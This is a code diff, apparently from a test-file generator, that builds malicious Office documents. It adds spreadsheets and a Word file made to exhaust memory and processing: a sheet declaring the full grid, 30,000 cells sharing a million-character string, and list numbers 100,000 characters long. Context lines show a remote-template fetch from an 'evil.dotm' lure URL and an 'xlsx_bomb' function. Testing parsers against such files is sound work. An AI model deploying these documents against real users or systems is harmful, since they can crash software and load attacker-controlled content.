@@ -92,24 +92,60 @@ Target="{lure.url}/evil.dotm" TargetMode="External"/></Relationships>"""
     _docx(path, body, external(lure, "w:document"), [("word/_rels/document.xml.rels", relations)])
 
 
-def xlsx_of_cells(path: Path, _: Lure) -> None:
-    """A sheet that says it reaches to the last row and column, with one value there."""
-    main, relation = "http://schemas.openxmlformats.org/spreadsheetml/2006/main", "officeDocument/2006/relationships"
+_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+_BESIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _xlsx(path: Path, sheet: str, strings: str = "") -> None:
     types = _TYPES.replace("/word/document.xml", "/xl/workbook.xml").replace(
         "wordprocessingml.document", "spreadsheetml.sheet"
     )
-    sheet = f"""<worksheet xmlns="{main}"><dimension ref="A1:XFD1048576"/><sheetData>
-<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>
-<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>"""
-    book = f"""<workbook xmlns="{main}" xmlns:r="http://schemas.openxmlformats.org/{relation}">
+    book = f"""<workbook xmlns="{_MAIN}" xmlns:r="{_BESIDE}">
 <sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>"""
     links = _RELATIONS.replace("word/document.xml", "worksheets/sheet1.xml").replace('/officeDocument"', '/worksheet"')
+    shared = f'<Relationship Id="rId2" Type="{_BESIDE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
         packed.writestr("[Content_Types].xml", types)
         packed.writestr("_rels/.rels", _RELATIONS.replace("word/document.xml", "xl/workbook.xml"))
         packed.writestr("xl/workbook.xml", book)
-        packed.writestr("xl/_rels/workbook.xml.rels", links)
-        packed.writestr("xl/worksheets/sheet1.xml", sheet)
+        packed.writestr("xl/_rels/workbook.xml.rels", links.replace("</Relationships>", shared))
+        packed.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{_MAIN}">{sheet}</worksheet>')
+        packed.writestr("xl/sharedStrings.xml", f'<sst xmlns="{_MAIN}">{strings}</sst>')
+
+
+def xlsx_of_cells(path: Path, _: Lure) -> None:
+    """A sheet that says it reaches to the last row and column, with one value there."""
+    _xlsx(
+        path,
+        """<dimension ref="A1:XFD1048576"/><sheetData>
+<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>
+<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>""",
+    )
+
+
+def xlsx_of_one_text(path: Path, _: Lure) -> None:
+    """30,000 cells that all show one text of a million characters."""
+    row = "<row>" + '<c t="s"><v>0</v></c>' * 30 + "</row>"
+    _xlsx(path, f"<sheetData>{row * 1000}</sheetData>", f"<si><t>{_noise(MIB)}</t></si>")
+
+
+def docx_numbered_at_length(path: Path, _: Lure) -> None:
+    """6,000 lines of a list whose number is a text of 100,000 characters."""
+    numbering = (
+        f"<w:numbering {_WORD}><w:abstractNum w:abstractNumId='1'><w:lvl w:ilvl='0'><w:numFmt w:val='decimal'/>"
+        f"<w:lvlText w:val='%1{_noise(100_000)}'/></w:lvl></w:abstractNum><w:num w:numId='1'>"
+        "<w:abstractNumId w:val='1'/></w:num></w:numbering>"
+    )
+    links = _RELATIONS.replace("word/document.xml", "numbering.xml").replace('/officeDocument"', '/numbering"')
+    line = (
+        "<w:p><w:pPr><w:numPr><w:ilvl w:val='0'/><w:numId w:val='1'/></w:numPr></w:pPr><w:r><w:t>{}</w:t></w:r></w:p>"
+    )
+    extra = [("word/numbering.xml", numbering), ("word/_rels/document.xml.rels", links)]
+    _docx(path, [_paragraph(TITLE), *(line.format(random.Random(n).random()) for n in range(6000))], extra=extra)
+
+
+def _noise(characters: int) -> str:
+    return random.Random(1).randbytes(characters // 2).hex()
 
 
 def xlsx_bomb(path: Path, _: Lure) -> None:
